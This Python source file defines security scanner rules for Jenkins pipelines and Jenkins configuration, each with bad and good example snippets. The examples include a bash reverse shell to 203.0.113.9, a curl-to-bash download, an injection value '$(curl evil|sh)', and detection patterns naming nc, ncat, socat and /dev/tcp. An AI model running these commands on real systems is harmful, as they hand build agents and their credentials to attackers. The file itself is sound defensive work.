"""Jenkinsfiles."""

from __future__ import annotations

from ...finding import Example, Rule
from .. import jenkins
from ..match import Custom, Flip, Keys, Replace
from ..predicates import is_true, more_than, one_of

_KIND = ("jenkinsfile",)
_CASC = ("jenkins-casc",)
_INTERPOLATION = "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation"


def step(line: str, more: str = "") -> Example:
    """A declarative pipeline with one step."""
    return Example(
        f"pipeline {{\n  agent any\n{more}  stages {{\n    stage('a') {{\n      steps {{\n        {line}\n      }}\n    }}\n  }}\n}}\n"
    )


RULES: tuple[Rule, ...] = (
    Rule(
        id="jenkins-text-in-script",
        family="config",
        title="text that somebody outside may write is pasted into a shell step",
        severity="high",
        tier="warn",
        cwe=94,
        why="In double quotes Groovy fills the text in before the shell reads the script; a branch or a pull request named $(curl evil|sh) runs as code.",
        fix="Use single quotes, so that the shell reads the variable itself: sh 'echo \"$CHANGE_TITLE\"'.",
        match=Custom(_KIND, jenkins.stranger_text, ("sh", "bat", "powershell")),
        equivalents=("poutine:injection",),
        references=(_INTERPOLATION,),
        bad=(
            step('sh "echo «${env.CHANGE_TITLE}»"'),
            step('sh(script: """\n          git checkout «$BRANCH_NAME»\n        """, returnStdout: true)'),
            step("sh 'git checkout ' + «env.CHANGE_BRANCH» + ' --force'"),
        ),
        good=(
            step("sh 'echo \"$CHANGE_TITLE\"'"),
            step('sh "echo ${env.BUILD_NUMBER}" // ${env.CHANGE_TITLE}'),
            step('echo "${env.CHANGE_TITLE}"'),
            step("sh 'make ' + env.BUILD_NUMBER"),
        ),
    ),
    Rule(
        id="jenkins-parameter-in-script",
        family="config",
        title="a parameter of free text is pasted into a shell step",
        severity="medium",
        tier="warn",
        cwe=94,
        confidence="medium",
        why="Groovy fills the parameter in before the shell reads the script; whoever may start the build decides what runs.",
        fix="Use single quotes, so that the shell reads the parameter as a variable: sh 'deploy \"$TARGET\"'; or use a choice parameter.",
        match=Custom(_KIND, jenkins.parameter_text, ("params",)),
        equivalents=("poutine:injection",),
        references=(_INTERPOLATION,),
        bad=(step('sh "deploy «${params.TARGET}»"', "  parameters { string(name: 'TARGET', defaultValue: '') }\n"),),
        good=(
            step('sh "deploy ${params.TARGET}"', "  parameters { choice(name: 'TARGET', choices: ['a', 'b']) }\n"),
            step("sh 'deploy \"$TARGET\"' + params.X", "  parameters { string(name: 'TARGET', defaultValue: '') }\n"),
        ),
    ),
    Rule(
        id="jenkins-secret-in-script",
        family="config",
        title="Groovy writes a credential into a command line",
        severity="medium",
        tier="warn",
        cwe=522,
        why="The filled-in command is in process lists and in messages of failing steps, and a credential with a quote or a dollar sign becomes code.",
        fix="Use single quotes, so that the shell reads the credential from its environment: sh 'curl -u \"$USER:$PASS\" …'.",
        match=Custom(_KIND, jenkins.secret_text, ("redentials",)),
        references=(_INTERPOLATION,),
        bad=(
            step("withCredentials([string(credentialsId: 'x', variable: 'KEY')]) { sh \"deploy --key «${KEY}»\" }"),
            step('sh "deploy «$KEY_PSW»"', "  environment { KEY = credentials('x') }\n"),
        ),
        good=(
            step("withCredentials([string(credentialsId: 'x', variable: 'KEY')]) { sh 'deploy --key \"$KEY\"' }"),
            step('sh "deploy ${STAGE}"', "  environment { KEY = credentials('x') }\n"),
        ),
    ),
    Rule(
        id="jenkins-privileged-agent",
        family="config",
        title="the build's container owns its host",
        severity="high",
        tier="block",
        cwe=250,
        why="A privileged container, or one in the host's process namespace, can do what root on the agent can; any build step or dependency is enough.",
        fix="Take the option out and add only the capability that is needed; build images with rootless tools.",
        match=Custom(_KIND, jenkins.privileged_agent, ("args", "inside", "un")),
        references=("https://www.jenkins.io/doc/book/pipeline/docker/",),
        bad=(
            Example("pipeline {\n  agent {\n    docker {\n      image 'node:22'\n      args '-u 0 «--privileged»'\n    }\n  }\n}\n"),
            Example("node {\n  docker.image('a').inside('«--privileged»') {\n    sh 'make'\n  }\n}\n"),
        ),
        good=(
            Example(
                "pipeline {\n  agent {\n    docker {\n      image 'node:22'\n      args \"-u 1000 ${ARGS}\" // --privileged\n    }\n  }\n}\n"
            ),
        ),
    ),
    Rule(
        id="jenkins-docker-socket",
        family="config",
        title="the build's container can drive the agent's Docker daemon",
        severity="high",
        tier="warn",
        cwe=250,
        why="With the daemon's socket a build starts containers of its own, privileged ones too: that is root on the agent.",
        fix="Build images with a rootless or remote builder instead of the agent's daemon.",
        match=Custom(_KIND, jenkins.docker_socket, ("docker.sock",)),
        references=("https://docs.docker.com/engine/security/#docker-daemon-attack-surface",),
        bad=(
            Example(
                "pipeline {\n  agent {\n    docker {\n      image 'docker'\n      args '-v «/var/run/docker.sock»:/var/run/docker.sock'\n    }\n  }\n}\n"
            ),
        ),
        good=(
            Example(
                "pipeline {\n  agent {\n    docker {\n      image 'docker'\n      args \"-v ${CACHE}:/cache\" // not /var/run/docker.sock\n    }\n  }\n}\n"
            ),
        ),
    ),
    Rule(
        id="jenkins-tls-ignored",
        family="config",
        title="a request does not verify who it talks to",
        severity="high",
        tier="block",
        cwe=295,
        why="Anyone on the way can read what is sent, credentials too, and change the answer.",
        fix="Take ignoreSslErrors out and add the private authority to the controller's trust store.",
        match=Custom(_KIND, jenkins.tls_ignored, ("ignoreSslErrors",)),
        references=("https://plugins.jenkins.io/http_request/",),
        bad=(step("httpRequest url: 'https://acme.dev', ignoreSslErrors: «true»"),),
        good=(step('httpRequest url: "https://${HOST}", ignoreSslErrors: false // ignoreSslErrors: true'),),
    ),
    Rule(
        id="jenkins-unverified-script",
        family="config",
        title="a download is run unread",
        severity="high",
        tier="warn",
        cwe=494,
        why="Whoever controls the address, or the way to it, controls the build and its credentials.",
        fix="Fetch a fixed version, check its SHA-256 and then run it.",
        match=Custom(_KIND, jenkins.unread_script, ("curl", "wget")),
        equivalents=("poutine:unverified_script_exec",),
        references=("https://about.codecov.io/security-update/",),
        bad=(step("sh '«curl -fsSL https://get.acme.dev | bash»'"),),
        good=(step("sh 'curl -fsSL https://acme.dev/a.json | jq .v'"), step("echo 'curl https://acme.dev | sh ${X}'")),
    ),
    Rule(
        id="jenkins-reverse-shell",
        family="config",
        title="this step opens a shell to somebody on the network",
        severity="critical",
        tier="block",
        cwe=506,
        why="There is no build that needs it; it is how a stolen account turns a pipeline into access to the agent.",
        fix="Find out who added it, take it out, and rotate every credential that this pipeline can read.",
        match=Custom(_KIND, jenkins.reverse_shell, ("/dev/tcp/", "nc ", "ncat ", "socat ")),
        references=("https://attack.mitre.org/techniques/T1059/004/",),
        bad=(step("sh '«bash -i >& /dev/tcp/203.0.113.9/4444 0>&1»'"),),
        good=(step("sh 'nc -z $DB_HOST 5432'"),),
    ),
    Rule(
        id="jenkins-code-from-outside",
        family="config",
        title="text from outside is run as Groovy",
        severity="critical",
        tier="block",
        cwe=94,
        why="Groovy of a pipeline can read every credential that the job may use; whoever starts the build, or opens a pull request, writes it here.",
        fix="Choose from fixed steps by the value (switch), and give the parameter a list of choices.",
        match=Custom(_KIND, jenkins.evaluated, ("evaluate", "Eval.me", "GroovyShell")),
        references=("https://www.jenkins.io/doc/book/security/",),
        bad=(Example("node {\n  evaluate(«params.SCRIPT»)\n}\n"),),
        good=(
            Example('node {\n  evaluate("1 + 1")\n  echo params.SCRIPT\n}\n'),
            Example('node {\n  // evaluate(params.SCRIPT)\n  echo "evaluate ${params.SCRIPT}"\n}\n'),
        ),
    ),
    Rule(
        id="jenkins-verification-variable",
        family="config",
        title="a variable switches verification off",
        severity="high",
        tier="block",
        cwe=295,
        why="Anybody on the way can present a certificate or host key of their own and decide what is built.",
        fix="Take the variable out; give a private authority's certificate in its place.",
        match=Custom(
            _KIND,
            jenkins.verification_variables,
            ("NODE_TLS_REJECT_UNAUTHORIZED", "PYTHONHTTPSVERIFY", "GIT_SSL_NO_VERIFY", "STRICT_SSL", "strict_ssl", "HOST_KEY_CHECKING"),
        ),
        references=("https://cwe.mitre.org/data/definitions/295.html",),
        bad=(Example("pipeline {\n  environment {\n    NODE_TLS_REJECT_UNAUTHORIZED = «'0'»\n  }\n}\n"),),
        good=(
            Example("pipeline {\n  environment {\n    NODE_TLS_REJECT_UNAUTHORIZED = '1'\n  }\n}\n"),
            Example('pipeline {\n  environment {\n    NODE_TLS_REJECT_UNAUTHORIZED = "${STRICT}"\n  }\n}\n'),
        ),
    ),
    Rule(
        id="jenkins-builds-on-controller",
        family="config",
        title="this build runs on the controller of Jenkins",
        severity="high",
        tier="warn",
        cwe=653,
        confidence="medium",
        why="What a build runs can read the controller's files there: every credential, every job, the configuration itself.",
        fix="Build on an agent (agent { label 'linux' }) and give the built-in node no executors.",
        match=Custom(_KIND, jenkins.on_controller, ("master", "built-in")),
        references=("https://www.jenkins.io/doc/book/security/controller-isolation/",),
        bad=(
            Example("pipeline {\n  agent { label '«master»' }\n  stages { stage('a') { steps { sh 'make' } } }\n}\n"),
            Example("node('«built-in»') {\n  sh 'make'\n}\n"),
        ),
        good=(
            Example(
                "pipeline {\n  agent { label 'linux' } // not master\n  stages { stage('master') { steps { sh 'git switch master' } } }\n}\n"
            ),
            Example("node(\"${LABEL}\") {\n  sh 'git switch master'\n}\n"),
        ),
    ),
    Rule(
        id="jenkins-any-agent",
        family="config",
        title="this build runs wherever there is room",
        severity="info",
        tier="audit",
        cwe=653,
        confidence="low",
        why="Any agent may be one that other projects trust, or the controller itself when it has executors.",
        fix="Name a label: agent { label 'linux' }, or agent none with one at each stage.",
        match=Custom(_KIND, jenkins.any_agent, ("agent",)),
        references=("https://www.jenkins.io/doc/book/security/controller-isolation/",),
        bad=(Example("pipeline {\n  agent «any»\n  stages { stage('a') { steps { sh 'make' } } }\n}\n"),),
        good=(
            Example(
                "pipeline {\n  agent none // agent any\n  stages { stage('a') { agent { label 'linux' }\n steps { echo 'agent any' } } }\n}\n"
            ),
            Example("pipeline {\n  agent { label \"${params.LABEL}\" }\n  stages { stage('a') { steps { sh 'make' } } }\n}\n"),
        ),
    ),
    Rule(
        id="jenkins-no-authorization",
        family="config",
        title="everybody who reaches this Jenkins may do everything",
        severity="critical",
        tier="block",
        cwe=862,
        why="The script console alone runs any code on the controller, with every credential in reach.",
        fix="Use an authorizationStrategy that gives rights to named users and groups, such as projectMatrix or roleBased.",
        match=Keys(_CASC, ("jenkins.authorizationStrategy",), one_of("unsecured", "legacy")),
        references=("https://www.jenkins.io/doc/book/security/managing-security/",),
        bad=(Example("jenkins:\n  authorizationStrategy: «unsecured»\n  numExecutors: 0\n"),),
        good=(
            Example("jenkins:\n  authorizationStrategy:\n    loggedInUsersCanDoAnything:\n      allowAnonymousRead: false\n"),
            Example("jenkins:\n  authorizationStrategy: ${STRATEGY}\n"),
        ),
    ),
    Rule(
        id="jenkins-anonymous-read",
        family="config",
        title="everybody who reaches this Jenkins may read its jobs and logs",
        severity="medium",
        tier="warn",
        cwe=306,
        why="Logs and workspaces hold paths, versions and often tokens.",
        fix="Set allowAnonymousRead: false.",
        match=Keys(_CASC, ("jenkins.authorizationStrategy.*.allowAnonymousRead",), is_true, mend=Flip(safe=False)),
        references=("https://www.jenkins.io/doc/book/security/managing-security/",),
        bad=(Example("jenkins:\n  authorizationStrategy:\n    loggedInUsersCanDoAnything:\n      allowAnonymousRead: «true»\n"),),
        good=(
            Example("jenkins:\n  authorizationStrategy:\n    loggedInUsersCanDoAnything:\n      allowAnonymousRead: false\n"),
            Example("jenkins:\n  authorizationStrategy:\n    loggedInUsersCanDoAnything:\n      allowAnonymousRead: ${OPEN}\n"),
        ),
    ),
    Rule(
        id="jenkins-controller-executors",
        family="config",
        title="builds may run on the controller of Jenkins",
        severity="medium",
        tier="warn",
        cwe=653,
        why="What a build runs can read the controller's files there: every credential, every job, the configuration itself.",
        fix="Set numExecutors: 0 and build on agents.",
        match=Keys(_CASC, ("jenkins.numExecutors",), more_than(0), mend=Replace("0", safe=False)),
        references=("https://www.jenkins.io/doc/book/security/controller-isolation/",),
        bad=(Example("jenkins:\n  numExecutors: «2»\n  systemMessage: hi\n"),),
        good=(Example("jenkins:\n  numExecutors: 0\n"), Example("jenkins:\n  numExecutors: ${EXECUTORS}\n")),
    ),
)
